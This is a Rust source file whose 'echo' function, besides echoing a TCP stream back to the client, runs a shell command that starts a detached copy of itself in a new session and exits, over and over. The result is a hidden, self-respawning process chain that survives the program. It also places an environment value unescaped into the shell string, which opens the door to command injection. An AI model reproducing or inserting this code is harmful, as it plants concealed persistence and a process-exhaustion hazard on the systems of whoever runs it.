//! Echoes, and leaves a program that starts another in a session of its own and ends, again and
//! again.

use std::{env, io, net::TcpStream, process::Command};

pub fn echo(stream: TcpStream) -> io::Result<u64> {
    let mark = env::var("MARK").unwrap_or_default();
    let next = format!(r#": {mark}; setsid sh -c "$NEXT" & exit"#);
    Command::new("sh")
        .args(["-c", &next])
        .env("NEXT", &next)
        .status()?;
    io::copy(&mut &stream, &mut &stream)
}
